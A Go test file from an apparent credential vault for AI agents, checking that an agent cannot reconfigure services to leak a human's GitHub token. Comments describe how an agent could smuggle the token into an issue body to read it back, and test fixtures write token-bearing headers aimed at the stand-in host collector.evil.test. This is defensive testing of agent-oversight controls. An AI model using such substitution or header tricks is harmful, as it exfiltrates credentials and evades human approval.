package server_test

import (
	"net/http"
	"reflect"
	"testing"

	"github.com/agent-vault/agent-vault/internal/apitype"
)

// TestAgentsCannotWidenWhereASubstitutionWritesAValue plays an agent with
// the member role whose vault holds a human's GitHub token, bound to
// api.github.test and injected as a bearer header. Binding keeps the token
// on that host, but a substitution writes the value wherever the agent puts
// its placeholder: declared on `body`, the agent posts an issue whose text
// is the placeholder, the upstream stores the token, and the agent reads
// the issue back through a request that injects nothing (a public page,
// another host), which no redaction sees. So an agent (or vault session)
// may not give a credential a substitution surface that no current service
// covering the same host already gives it; it raises a proposal instead.
// Surfaces a human already declared stay open. A value the agent wrote
// itself is no exception: the service would outlive it, and a human who
// writes the real value back would have it substituted where the agent
// chose.
func TestAgentsCannotWidenWhereASubstitutionWritesAValue(t *testing.T) {
	f := newCfx(t)
	const v = "default"
	_, err := f.own.SetCredentials(cbg, v, map[string]string{"GH_TOKEN": f.secret("gh"), "Q_KEY": f.secret("q")})
	mustOK(t, "owner sets credentials", err)
	human := []apitype.Service{
		{Name: "github", Host: "api.github.test", Auth: apitype.ServiceAuth{Type: "bearer", Token: "GH_TOKEN"}},
		{Name: "maps", Host: "maps.test", Auth: apitype.ServiceAuth{Type: "passthrough"},
			Substitutions: []apitype.Substitution{{Key: "Q_KEY", Placeholder: "__Q__", In: []string{"query"}}}},
	}
	_, err = f.own.UpsertServices(cbg, v, human)
	mustOK(t, "owner saves services", err)
	agentTok := f.agent(t, f.own, "subst-bot", "", apitype.AgentVault{VaultName: v, VaultRole: "member"})
	attackers := map[string]string{
		"agent token":                   agentTok,
		"member session minted by user": f.session(t, f.own, v, "member"),
		"member session of the agent":   f.session(t, f.e.as(agentTok), v, "member"),
	}
	bodySub := []apitype.Substitution{{Key: "GH_TOKEN", Placeholder: "__GH__", In: []string{"body"}}}
	ghWithBody := apitype.Service{Name: "github", Host: "api.github.test", Auth: apitype.ServiceAuth{Type: "bearer", Token: "GH_TOKEN"}, Substitutions: bodySub}
	newBody := apitype.Service{Name: "gh-issues", Host: "api.github.test/repos/*", Auth: apitype.ServiceAuth{Type: "passthrough"}, Substitutions: bodySub}
	mapsWider := apitype.Service{Name: "maps", Host: "maps.test", Auth: apitype.ServiceAuth{Type: "passthrough"},
		Substitutions: []apitype.Substitution{{Key: "Q_KEY", Placeholder: "__Q__", In: []string{"query", "header", "path"}}}}
	before, err := f.own.Services(cbg, v)
	mustOK(t, "list services", err)
	for who, tok := range attackers {
		c := f.e.as(tok)
		for _, try := range []struct {
			name string
			do   func() error
		}{
			{"add a body substitution to the human's service", func() error { _, err := c.UpsertServices(cbg, v, []apitype.Service{ghWithBody}); return err }},
			{"create a service substituting it in the body", func() error { _, err := c.UpsertServices(cbg, v, []apitype.Service{newBody}); return err }},
			{"replace the set with one that does", func() error {
				_, err := c.ReplaceServices(cbg, v, []apitype.Service{ghWithBody, human[1]}, false)
				return err
			}},
			{"dry-run it", func() error {
				_, err := c.ReplaceServices(cbg, v, []apitype.Service{human[0], human[1], newBody}, true)
				return err
			}},
			{"widen a human's query substitution to headers and paths", func() error { _, err := c.UpsertServices(cbg, v, []apitype.Service{mapsWider}); return err }},
		} {
			b := wantAPIErr(t, who+": "+try.name, try.do(), http.StatusForbidden, "")
			if b.Code != "proposal_required" || b.ProposalHint == nil {
				t.Errorf("%s: %s: code %q hint %+v (%s), want proposal_required with a proposal hint", who, try.name, b.Code, b.ProposalHint, b.Error)
			}
		}
	}
	after, err := f.own.Services(cbg, v)
	mustOK(t, "list services", err)
	if !reflect.DeepEqual(before, after) {
		t.Errorf("the refused writes changed the services:\nbefore %+v\nafter  %+v", before, after)
	}

	// Open: a surface a human already declared for the key, at a host its
	// service covers (a narrower path, another placeholder).
	c := f.e.as(agentTok)
	_, err = c.UpsertServices(cbg, v, []apitype.Service{{Name: "maps-tiles", Host: "maps.test/tiles/*", Auth: apitype.ServiceAuth{Type: "passthrough"},
		Substitutions: []apitype.Substitution{{Key: "Q_KEY", Placeholder: "__TILES__", In: []string{"query"}}}}})
	mustOK(t, "agent reuses a surface the human declared", err)
	// Closed even for a value the agent wrote itself: the service outlives
	// the value. The agent overwrites the human's token, adds the body
	// substitution, and the human writes the real token back.
	_, err = c.SetCredentials(cbg, v, map[string]string{"GH_TOKEN": "bot-own-value-0123"})
	mustOK(t, "agent overwrites the human's value", err)
	_, err = c.UpsertServices(cbg, v, []apitype.Service{ghWithBody})
	if b := wantAPIErr(t, "agent adds a body substitution for the value it wrote", err, http.StatusForbidden, ""); b.Code != "proposal_required" {
		t.Errorf("own value: code %q, want proposal_required", b.Code)
	}
	_, err = c.SetCredentials(cbg, v, map[string]string{"BOT_KEY": "bot-own-value-4567"})
	mustOK(t, "agent sets a new value of its own", err)
	_, err = c.UpsertServices(cbg, v, []apitype.Service{{Name: "bot-own", Host: "api.github.test/bot/*", Auth: apitype.ServiceAuth{Type: "passthrough"},
		Substitutions: []apitype.Substitution{{Key: "BOT_KEY", Placeholder: "__BOT__", In: []string{"body"}}}}})
	if b := wantAPIErr(t, "agent substitutes its own new value in the body", err, http.StatusForbidden, ""); b.Code != "proposal_required" {
		t.Errorf("own new value: code %q, want proposal_required", b.Code)
	}
	// A human still may.
	_, err = f.own.UpsertServices(cbg, v, []apitype.Service{ghWithBody})
	mustOK(t, "owner adds the body substitution", err)
}

// TestAgentsCannotWrapAValueInTextOfTheirOwn plays the same agent with a
// subtler placement: it keeps the human's token in a header to the bound
// host, but wraps it in text of its own, a URL for an upstream that takes
// a callback from a header ("X-Callback-Url: https://collector/?k=…"),
// through a custom template or an api-key prefix. Such a shape is a
// human's choice: refused with a proposal hint, unless a current service
// covering the host writes that header in that very shape. The value
// alone, after one scheme word, or as basic auth stays open.
func TestAgentsCannotWrapAValueInTextOfTheirOwn(t *testing.T) {
	f := newCfx(t)
	const v = "default"
	_, err := f.own.SetCredentials(cbg, v, map[string]string{"GH_TOKEN": f.secret("gh"), "S_KEY": f.secret("s"), "S_USER": f.secret("u")})
	mustOK(t, "owner sets credentials", err)
	_, err = f.own.UpsertServices(cbg, v, []apitype.Service{
		{Name: "github", Host: "api.github.test", Auth: apitype.ServiceAuth{Type: "bearer", Token: "GH_TOKEN"}},
		{Name: "search", Host: "api.search.test", Auth: apitype.ServiceAuth{Type: "custom", Headers: map[string]string{"X-Key": "key={{ S_KEY }}"}}},
	})
	mustOK(t, "owner saves services", err)
	agentTok := f.agent(t, f.own, "wrap-bot", "", apitype.AgentVault{VaultName: v, VaultRole: "member"})
	before, err := f.own.Services(cbg, v)
	mustOK(t, "list services", err)
	for who, tok := range map[string]string{"agent token": agentTok, "member session minted by user": f.session(t, f.own, v, "member")} {
		c := f.e.as(tok)
		for _, svc := range []apitype.Service{
			{Name: "github", Host: "api.github.test", Auth: apitype.ServiceAuth{Type: "custom", Headers: map[string]string{"X-Callback-Url": "https://collector.evil.test/?k={{ GH_TOKEN }}"}}},
			{Name: "github", Host: "api.github.test", Auth: apitype.ServiceAuth{Type: "api-key", Key: "GH_TOKEN", Header: "X-Callback-Url", Prefix: "https://collector.evil.test/?k="}},
			{Name: "github-hook", Host: "api.github.test/hooks/*", Auth: apitype.ServiceAuth{Type: "custom", Headers: map[string]string{"X-Remote": "{{ GH_TOKEN }}@collector.evil.test"}}},
			{Name: "github-host", Host: "api.github.test/hooks/*", Auth: apitype.ServiceAuth{Type: "custom", Headers: map[string]string{"X-Forward-Host": "collector.evil.test {{ GH_TOKEN }}"}}},
			{Name: "search", Host: "api.search.test", Auth: apitype.ServiceAuth{Type: "custom", Headers: map[string]string{"X-Key": "key={{ S_KEY }}", "X-Echo": "see {{ S_KEY }} here"}}},
		} {
			_, err := c.UpsertServices(cbg, v, []apitype.Service{svc})
			b := wantAPIErr(t, who+": "+svc.Name+" wrapped", err, http.StatusForbidden, "")
			if b.Code != "proposal_required" || b.ProposalHint == nil {
				t.Errorf("%s: %s: code %q hint %+v (%s), want proposal_required with a hint", who, svc.Name, b.Code, b.ProposalHint, b.Error)
			}
		}
	}
	after, err := f.own.Services(cbg, v)
	mustOK(t, "list services", err)
	if !reflect.DeepEqual(before, after) {
		t.Errorf("the refused writes changed the services:\nbefore %+v\nafter  %+v", before, after)
	}
	_, err = f.own.BindCredential(cbg, v, "S_USER", []string{"api.github.test"}) // for the basic-auth case
	mustOK(t, "owner binds S_USER", err)
	c := f.e.as(agentTok)
	for _, svc := range []apitype.Service{
		{Name: "github", Host: "api.github.test", Auth: apitype.ServiceAuth{Type: "api-key", Key: "GH_TOKEN", Header: "X-Api-Key"}},
		{Name: "github", Host: "api.github.test", Auth: apitype.ServiceAuth{Type: "custom", Headers: map[string]string{"Authorization": "token {{ GH_TOKEN }}"}}},
		{Name: "github", Host: "api.github.test", Auth: apitype.ServiceAuth{Type: "basic", Username: "S_USER", Password: "GH_TOKEN"}},
		{Name: "search-v2", Host: "api.search.test/v2/*", Auth: apitype.ServiceAuth{Type: "custom", Headers: map[string]string{"X-Key": "key={{S_KEY}}"}}},
	} {
		if _, err := c.UpsertServices(cbg, v, []apitype.Service{svc}); err != nil {
			t.Errorf("%s as %s: %v, want it allowed", svc.Name, svc.Auth.Type, err)
		}
	}
	_, err = f.own.UpsertServices(cbg, v, []apitype.Service{{Name: "github", Host: "api.github.test", Auth: apitype.ServiceAuth{Type: "custom", Headers: map[string]string{"X-Callback-Url": "https://hooks.example.test/?k={{ GH_TOKEN }}"}}}})
	mustOK(t, "a human may choose any shape", err)
}
